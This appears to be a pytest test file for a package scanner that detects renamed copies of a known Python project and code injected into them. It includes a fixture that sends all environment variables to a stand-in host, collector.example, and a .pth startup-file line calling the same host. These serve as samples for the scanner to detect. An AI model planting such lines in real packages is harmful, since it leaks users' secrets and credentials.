"""Copies of a project under another name: known whatever was renamed, and by what was added."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from safe_pip.evidence import Evidence
from safe_pip.extractors import SCHEMA, observe
from safe_pip.extractors.code import observe_unit
from safe_pip.extractors.copies import FEATURES, Comparison
from safe_pip.extractors.originals import Originals
from safe_pip.extractors.unit import python_units
from tests.builders import Content, make_wheel, wheel_filename
from tests.originals import TOPICS, index_of, module, project_files, unrelated_files
from tests.reading import opened

SENDS = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://collector.example/in', data=str(os.environ).encode())\n"
)


@pytest.fixture(scope="module")
def originals() -> Originals:
    return index_of({"glimmer": project_files()})


def observed(
    files: Mapping[str, Content], originals: Originals, *, name: str = "glimpse"
) -> list[Evidence]:
    """What the comparison says of a wheel."""
    distribution = opened(make_wheel(name, files=files), wheel_filename(name, "1.0"))
    comparison = Comparison(distribution, originals)
    acts: list[Evidence] = []
    for unit in python_units(distribution):
        comparison.add(unit.path, unit.data)
        acts += observe_unit(unit)
    return list(comparison.observe(acts))


def value_of(evidence: list[Evidence], feature: str) -> float:
    return max((item.value for item in evidence if item.feature == feature), default=0.0)


def places_of(evidence: list[Evidence], feature: str) -> set[tuple[str, int]]:
    return {
        (item.location.path, item.location.line) for item in evidence if item.feature == feature
    }


def test_a_renamed_copy_is_known_whole(originals: Originals) -> None:
    evidence = observed(project_files("glimpse", says="glimpse"), originals)
    assert value_of(evidence, "copied_share") > 0.8
    assert value_of(evidence, "copied_whole") > 0.8
    assert {item.feature for item in evidence} == {"copied_share", "copied_whole"}


def test_evidence_names_the_original(originals: Originals) -> None:
    evidence = observed(project_files("glimpse"), originals)
    assert evidence
    assert all(item.excerpt == "glimmer" and "glimmer" in item.detail for item in evidence)


@pytest.mark.parametrize("says", ["glimmer", "glimpse"])
def test_a_line_added_to_a_copied_file_is_found_there(originals: Originals, says: str) -> None:
    """Whether or not the name was replaced in the texts as well."""
    files = project_files("glimpse", says=says)
    path = "glimpse/quarry.py"
    before = str(files[path])
    files[path] = before + SENDS
    line = before.count("\n") + 2
    evidence = observed(files, originals)
    assert places_of(evidence, "copied_changed_acts") == {(path, line)}
    assert places_of(evidence, "copied_acts_unasked") == {(path, line)}
    assert places_of(evidence, "copied_attacks") == {(path, line)}
    assert places_of(evidence, "copied_changed_file") == {(path, 1)}
    assert value_of(evidence, "copied_changed_file") > 0.8


def test_a_file_added_to_a_copy_is_found(originals: Originals) -> None:
    files = project_files("glimpse") | {"glimpse/telemetry.py": SENDS}
    evidence = observed(files, originals)
    assert places_of(evidence, "copied_added_acts") == {("glimpse/telemetry.py", 2)}
    assert not places_of(evidence, "copied_changed_acts")


def test_a_startup_file_beside_a_copy_is_added_to_it(originals: Originals) -> None:
    line = "import urllib.request; urllib.request.urlopen('https://collector.example')\n"
    evidence = observed(project_files("glimpse") | {"glimpse.pth": line}, originals)
    assert places_of(evidence, "copied_acts_unasked") == {("glimpse.pth", 1)}


def test_what_the_original_does_too_is_not_evidence(originals: Originals) -> None:
    files = project_files("glimpse")
    files["glimpse/client.py"] = str(files["glimpse/client.py"]) + "\n\nVERSION = 'new in a fork'\n"
    evidence = observed(files, originals)
    assert places_of(evidence, "copied_changed_file") == {("glimpse/client.py", 1)}
    assert not places_of(evidence, "copied_changed_acts")


def test_500_files_more_do_not_hide_the_changed_file(originals: Originals) -> None:
    files = project_files("glimpse")
    files["glimpse/quarry.py"] = str(files["glimpse/quarry.py"]) + SENDS
    bare = observed(files, originals)
    padded = observed(files | unrelated_files(500), originals)
    for feature in ("copied_whole", "copied_changed_file", "copied_changed_acts",
                    "copied_acts_unasked", "copied_attacks"):  # fmt: skip
        assert value_of(padded, feature) >= value_of(bare, feature) > 0
        assert places_of(padded, feature) == places_of(bare, feature)


def test_a_project_is_no_copy_of_itself(originals: Originals) -> None:
    files = project_files()
    files["glimmer/quarry.py"] = str(files["glimmer/quarry.py"]) + SENDS
    assert not observed(files, originals, name="glimmer")


@pytest.mark.parametrize("folder", ["_vendor", "vendor", "third_party", "extern", "externals"])
def test_a_vendored_copy_is_no_copy(originals: Originals, folder: str) -> None:
    files = {f"other/{folder}/{path}": text for path, text in project_files().items()}
    files |= unrelated_files(5)
    assert not observed(files, originals, name="other")


def test_a_copy_deep_in_another_package_is_known_by_its_folder(originals: Originals) -> None:
    files = {f"other/kept/{path}": text for path, text in project_files().items()}
    files |= unrelated_files(60) | {"other/sender.py": SENDS, "other/kept/glimmer/more.py": SENDS}
    evidence = observed(files, originals, name="other")
    assert value_of(evidence, "copied_share") < 0.5
    assert places_of(evidence, "copied_added_acts") == {("other/kept/glimmer/more.py", 2)}


def test_code_of_its_own_is_no_copy(originals: Originals) -> None:
    assert not observed(unrelated_files(40), originals, name="other")


def test_code_that_two_projects_share_is_nobodys() -> None:
    shared: dict[str, Content] = {f"common/{topic}.py": module(topic) for topic in TOPICS[:4]}
    amber = shared | unrelated_files(60)
    basalt = shared | unrelated_files(60, first=60)
    assert observed(shared, index_of({"amber": amber}), name="other")
    assert not observed(shared, index_of({"amber": amber, "basalt": basalt}), name="other")


def test_projects_that_are_the_same_are_one_entry_with_both_names() -> None:
    files = project_files()
    index = index_of({"glimmer": files, "glimmer-headless": files | unrelated_files(1)})
    assert len(index) == 1
    assert "glimmer" in index
    assert "glimmer-headless" in index
    assert not observed(files, index, name="glimmer-headless")


def test_a_project_keeps_its_code_when_a_larger_one_holds_it_whole() -> None:
    files = project_files()
    larger = {f"larger/{path}": text for path, text in files.items()} | {
        f"larger/{path}": text for path, text in unrelated_files(120).items()
    }
    index = index_of({"glimmer": files, "larger": larger})
    evidence = observed(project_files("glimpse"), index)
    assert {item.excerpt for item in evidence} == {"glimmer"}


def test_the_comparison_is_part_of_what_is_observed(
    originals: Originals, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("safe_pip.extractors.copies.shipped_originals", lambda: originals)
    files = project_files("glimpse")
    files["glimpse/quarry.py"] = str(files["glimpse/quarry.py"]) + SENDS
    evidence = observe(opened(make_wheel("glimpse", files=files), wheel_filename("glimpse", "1.0")))
    vector = SCHEMA.fold(evidence).values
    for feature in FEATURES:
        is_shown = bool(vector[SCHEMA.positions[feature.name]] > 0)
        assert is_shown is (feature.name != "copied_added_acts")
